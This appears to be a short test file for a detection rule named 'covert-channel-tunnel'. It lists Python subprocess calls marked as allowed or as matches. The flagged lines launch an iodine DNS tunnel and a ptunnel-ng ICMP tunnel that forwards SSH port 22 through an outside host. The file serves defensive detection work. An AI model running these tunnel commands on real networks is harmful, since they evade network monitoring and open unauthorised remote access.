import subprocess

# ok: covert-channel-tunnel
subprocess.run(["dig", "TXT", "example.org"])
# ok: covert-channel-tunnel
subprocess.run(["pip", "install", "iodine"])
# ruleid: covert-channel-tunnel
subprocess.Popen(["iodine", "-f", "-P", "secret", "t.example.org"])
# ruleid: covert-channel-tunnel
subprocess.Popen("ptunnel-ng -p 203.0.113.7 -l 8000 -r 203.0.113.7 -R 22", shell=True)
